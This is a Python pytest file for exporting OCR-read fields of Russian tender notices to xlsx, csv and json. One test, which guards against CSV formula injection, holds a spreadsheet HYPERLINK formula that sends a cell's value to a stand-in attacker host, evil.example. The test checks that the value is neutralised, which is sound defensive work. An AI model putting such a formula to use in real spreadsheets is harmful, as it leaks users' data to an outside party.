"""Many documents' fields → one sheet (models/fields/sheet.py), read back with openpyxl and
csv as a person's spreadsheet program and a script would read them."""

from __future__ import annotations

import csv
import datetime
import io
import json
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from models.config import load_config
from models.errors import ExportError
from models.fields.collect import collect
from models.fields.result import FoundValue
from models.fields.sheet import listing, sheet_bytes
from models.fields.template import Template
from models.result import OCRResult, PageResult
from tests.conftest import ROOT
from tests.test_fields import BIK, INN, KPP, OGRN, settlement_account

ACCOUNT = settlement_account(BIK)
# An INN that begins with a zero (Bashkortostan's): a number cell would drop it.
ZERO_INN = "0274062111"


@pytest.fixture(scope="module")
def template() -> Template:
    return load_config(ROOT / "config.yaml").template("tender_notice")


def run(template: Template, found: list[tuple[str, str, int]], pages: int = 1,
        failed: tuple[int, ...] = ()) -> OCRResult:
    values = [FoundValue(name=name, value=value, page=page) for name, value, page in found]
    return OCRResult(model="m", engine="e", task="fields", template="tender_notice", fields=collect(template, values),
                     pages=[PageResult(index=i, error="boom" if i in failed else None) for i in range(pages)])


@pytest.fixture(scope="module")
def documents(template):
    first = run(template, [("customer_inn", INN, 0), ("customer_kpp", KPP, 0), ("customer_ogrn", OGRN, 0),
                           ("initial_price", "1 250 000,00 руб.", 0), ("bid_deadline", "«20» декабря 2026 г.", 0),
                           ("bik", BIK, 0), ("account", ACCOUNT, 0)])
    second = run(template, [("customer_inn", ZERO_INN, 0), ("customer_kpp", "773601001", 0),
                            ("customer_kpp", "773601002", 1), ("customer_ogrn", "1027700132196", 1),
                            ("initial_price", "сто рублей", 0)], pages=3, failed=(2,))
    return [("a.pdf", first), ("b.png", second)]


def column(header: list[str], label: str) -> int:
    return header.index(label)


def test_xlsx_has_a_row_per_document_identifiers_as_text_and_a_check_per_field(template, documents):
    book = load_workbook(io.BytesIO(sheet_bytes(documents, template, "xlsx")))
    sheet = book.active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert header[0] == "Document" and [r[0].value for r in rows[1:]] == ["a.pdf", "b.png"]
    labels = [f.label.render("en") for f in template.fields]
    assert [h for h in header if h in labels] == labels  # a column per field, in the template's order
    assert all(f"{label}: check" in header for label in labels)
    a, b = rows[1], rows[2]
    inn = column(header, "Customer's INN")
    assert (b[inn].value, b[inn].data_type) == (ZERO_INN, "s")  # its leading zero kept
    assert (a[inn].value, a[inn].data_type) == (INN, "s")
    account = column(header, "Settlement account")
    assert (a[account].value, a[account].data_type) == (ACCOUNT, "s")
    assert a[column(header, "Settlement account: check")].value == "valid"
    check = column(header, "Customer's INN: check")
    assert a[check].value == "valid" and b[check].value == "valid"
    ogrn = column(header, "Customer's OGRN: check")
    assert b[ogrn].value == "invalid: the OGRN's check digit does not match"
    assert b[ogrn].fill.fgColor.rgb.endswith("FFC7CE")  # what needs a person stands out
    kpp = column(header, "Customer's KPP")
    assert b[kpp].value == "773601001 (page 1); 773601002 (page 2)"
    assert b[kpp + 1].value == "conflict: 2 different values on pages 1, 2"
    notice = column(header, "Notice number: check")
    assert a[notice].value == "missing: required, and found on no page"
    assert header[-1] == "Pages not read" and (a[-1].value, b[-1].value) == (None, "3")


def test_xlsx_sums_and_dates_are_typed_beside_the_printed_value(template, documents):
    sheet = load_workbook(io.BytesIO(sheet_bytes(documents, template, "xlsx"))).active
    rows = list(sheet.iter_rows(values_only=False))
    header = [cell.value for cell in rows[0]]
    price = column(header, "Initial maximum price (НМЦК)")
    a, b = rows[1], rows[2]
    assert a[price].value == "1 250 000,00 руб."
    assert header[price + 1] == "Initial maximum price (НМЦК): as a number"
    assert a[price + 1].value == Decimal("1250000.00") and a[price + 1].number_format == "#,##0.00"
    assert b[price].value == "сто рублей" and b[price + 1].value is None  # it did not check: no number
    assert b[price + 2].value == "invalid: not a sum or a number"
    deadline = column(header, "Deadline for bids: as a date")
    assert a[deadline].value == datetime.datetime(2026, 12, 20) and a[deadline].is_date
    assert a[deadline].number_format == "YYYY-MM-DD"
    assert a[deadline - 1].value == "«20» декабря 2026 г."


def test_a_date_printed_with_its_time_keeps_it_in_the_workbook(template):
    timed = run(template, [("bid_deadline", "20.12.2026 10:00", 0)])
    sheet = load_workbook(io.BytesIO(sheet_bytes([("a.pdf", timed)], template, "xlsx", lang="ru"))).active
    header, row = ([cell for cell in r] for r in sheet.iter_rows())
    deadline = [c.value for c in header].index("Окончание подачи заявок: дата")
    assert row[deadline].value == datetime.datetime(2026, 12, 20, 10, 0)
    assert row[deadline].number_format == "DD.MM.YYYY HH:MM"


def test_headers_and_checks_speak_the_language_asked(template, documents):
    sheet = load_workbook(io.BytesIO(sheet_bytes(documents, template, "xlsx", lang="ru"))).active
    header = [cell.value for cell in next(sheet.iter_rows())]
    assert header[0] == "Документ" and "ИНН заказчика" in header
    row = [cell.value for cell in list(sheet.iter_rows())[2]]
    assert row[column(header, "ОГРН заказчика: проверка")] == "неверно: контрольная цифра ОГРН не сходится"
    assert sheet.title == "Поля"


def test_csv_holds_the_same_cells_as_text(template, documents):
    data = sheet_bytes(documents, template, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads Cyrillic from UTF-8 only with the mark
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, a, b = rows
    assert a[0] == "a.pdf" and b[column(header, "Customer's INN")] == ZERO_INN
    price = column(header, "Initial maximum price (НМЦК)")
    assert a[price:price + 3] == ["1 250 000,00 руб.", "1250000.00", "valid"]
    assert a[column(header, "Deadline for bids: as a date")] == "2026-12-20"
    assert b[column(header, "Customer's KPP: check")] == "conflict: 2 different values on pages 1, 2"
    assert b[-1] == "3"


def test_csv_values_that_begin_like_a_formula_are_quoted_so_no_spreadsheet_runs_them(template):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"ГБУ")'
    result = run(template, [("customer_name", formula, 0), ("contact_phone", "+7 (495) 241-15-07", 0)])
    header, row = csv.reader(io.StringIO(sheet_bytes([("a.pdf", result)], template, "csv").decode("utf-8-sig")))
    assert row[column(header, "Customer")] == "'" + formula
    assert row[column(header, "Contact phone")] == "'+7 (495) 241-15-07"
    # The workbook keeps them as they are: its cells are text, never formulas.
    sheet = load_workbook(io.BytesIO(sheet_bytes([("a.pdf", result)], template, "xlsx"))).active
    cells = [cell.value for cell in list(sheet.iter_rows())[1]]
    assert cells[column(header, "Customer")] == formula


def test_documents_of_one_name_are_rows_named_apart(template, documents):
    twins = [("invoice.png", documents[0][1]), ("invoice.png", documents[1][1]), ("invoice.pdf", documents[0][1])]
    rows = list(csv.reader(io.StringIO(sheet_bytes(twins, template, "csv").decode("utf-8-sig"))))
    names = ["invoice.png", "invoice (2).png", "invoice (3).pdf"]
    assert [row[0] for row in rows[1:]] == names
    assert [r["document"] for r in json.loads(sheet_bytes(twins, template, "json"))] == names


def test_a_lone_surrogate_read_or_typed_is_writable_everywhere(template):
    """JSON's "\\ud800" decodes to a lone surrogate: read by a rule or typed by a person, it
    becomes "?" as it enters a field, so no sheet or history row fails on it."""
    from models.fields.collect import correct

    result = run(template, [("customer_name", "ГБУ \ud800 Арбат", 0)])
    result.fields = correct(template, result.fields, "subject", "Уборка \udfff")
    fields = {f.name: f for f in OCRResult.model_validate_json(result.model_dump_json()).fields}
    assert fields["customer_name"].value == "ГБУ ? Арбат" and fields["customer_name"].found[0].value == "ГБУ ? Арбат"
    assert (fields["subject"].value, fields["subject"].normalized) == ("Уборка ?", "Уборка ?")
    for fmt in ("xlsx", "csv", "json"):
        assert sheet_bytes([("a.pdf", result)], template, fmt)


def test_json_is_keyed_by_field_names(template, documents):
    records = json.loads(sheet_bytes(documents, template, "json", lang="ru"))
    assert [r["document"] for r in records] == ["a.pdf", "b.png"]
    a, b = records[0]["fields"], records[1]["fields"]
    assert list(a) == [f.name for f in template.fields]
    assert a["initial_price"] == {"value": "1 250 000,00 руб.", "normalized": "1250000.00", "status": "valid",
                                  "reason": None, "found": [{"value": "1 250 000,00 руб.", "page": 1}],
                                  "corrected": False, "original": None}
    assert b["customer_kpp"]["status"] == "conflict" and b["customer_kpp"]["value"] is None
    assert b["customer_kpp"]["found"] == [{"value": "773601001", "page": 1}, {"value": "773601002", "page": 2}]
    assert b["customer_ogrn"]["reason"] == "контрольная цифра ОГРН не сходится"  # the reason in the language
    assert records[1]["pages_not_read"] == [3] and records[0]["template"] == "tender_notice"


def test_a_list_is_joined_and_a_correction_says_what_was_read():
    from models.fields.collect import correct

    template = Template(label="Contract", fields=[{"name": "parties", "label": "Parties", "type": "list"},
                                                 {"name": "inn", "label": "INN", "check": "inn", "type": "verbatim"}])
    result = run(template, [("parties", ["ООО «Ромашка»", "АО «Лютик»"], 0), ("inn", "7707083894", 0)])
    result.fields = correct(template, result.fields, "inn", INN)
    rows = list(csv.reader(io.StringIO(sheet_bytes([("c.pdf", result)], template, "csv").decode("utf-8-sig"))))
    assert rows[1][1:] == ["ООО «Ромашка»; АО «Лютик»", "valid", INN,
                           "valid; corrected by hand, read as: 7707083894", ""]


@pytest.mark.parametrize("make, expected", [
    (lambda t: [], "There are no documents to put in a sheet."),
    (lambda t: [("text.png", OCRResult(model="m", engine="e", task="text", pages=[PageResult(index=0)]))],
     "'text.png' was not read with the fields task, so it has no fields to put in a sheet; read it with the "
     "task Fields and a template."),
    (lambda t: [("inv.pdf", OCRResult(model="m", engine="e", task="fields", template="invoice",
                                      fields=collect(load_config(ROOT / "config.yaml").template("invoice"), [])))],
     "'inv.pdf' was read with the template invoice, not this one; put the documents of one template in a sheet."),
])
def test_runs_without_this_templates_fields_are_one_sentence(template, make, expected):
    for fmt in ("xlsx", "csv", "json"):
        with pytest.raises(ExportError) as raised:
            sheet_bytes(make(template), template, fmt)
        assert str(raised.value) == expected


def test_listing_is_the_fields_as_a_table(template, documents):
    text = listing(documents[1][1], template, "txt")
    lines = text.splitlines()
    assert lines[0] == "Tender notice"
    assert "Customer's KPP\t773601001 (page 1); 773601002 (page 2)\tconflict: 2 different values on pages 1, 2" in lines
    markdown = listing(documents[0][1], template, "md", lang="ru")
    assert markdown.startswith("# Извещение о закупке\n\n| Поле | Значение | Проверка |")
    assert f"| ИНН заказчика | {INN} | верно |" in markdown
